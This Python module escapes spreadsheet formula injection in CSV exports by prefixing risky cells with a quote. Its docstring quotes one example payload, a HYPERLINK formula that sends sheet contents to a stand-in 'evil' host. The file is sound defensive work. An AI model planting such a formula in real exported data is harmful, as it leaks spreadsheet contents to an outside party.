"""Writing CSV that people open in a spreadsheet, without formula injection.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by
Excel, LibreOffice and Google Sheets (`=HYPERLINK("https://evil/?"&A1)` leaks the sheet). As
OWASP recommends, such a cell is prefixed with a single quote, which spreadsheets hide and
treat as "this is text". Hand-written: defusedcsv, the library for this, also rewrites every
`|` inside those cells and does not cover tab and carriage return.

Plain numbers (`-12`, `+3.5`) are left alone: a spreadsheet reads them as numbers, never as
formulas, and prefixing them would turn numbers into text.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Full-width variants: some spreadsheets normalise them to the ASCII operators.
FORMULA_STARTS_WIDE = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def neutralise(value: Any) -> str:
    """The cell as text that no spreadsheet evaluates."""
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    if _NUMBER.match(text):
        return text
    # A leading space does not stop Excel from reading " =1+1" as a formula.
    start = text.lstrip(" ")
    if start.startswith(FORMULA_STARTS + FORMULA_STARTS_WIDE) or text.startswith(("\t", "\r")):
        return "'" + text
    return text


class ExportError(OSError):
    """The export file cannot be written (a missing folder, no permission)."""


class SafeWriter:
    """csv.writer with every cell neutralised; quotes as needed, CRLF rows (RFC 4180)."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Iterable[Any]]) -> int:
    """Write `header` and `rows` to `path` (UTF-8 with a BOM, so Excel reads the accents);
    returns the number of data rows; ExportError when the file cannot be written."""
    count = 0
    try:
        with path.open("w", encoding="utf-8-sig", newline="") as out:
            writer = SafeWriter(out)
            writer.writerow(header)
            for row in rows:
                writer.writerow(row)
                count += 1
    except OSError as exc:
        raise ExportError(f"cannot write {path}: {exc.strerror or exc}") from None
    return count
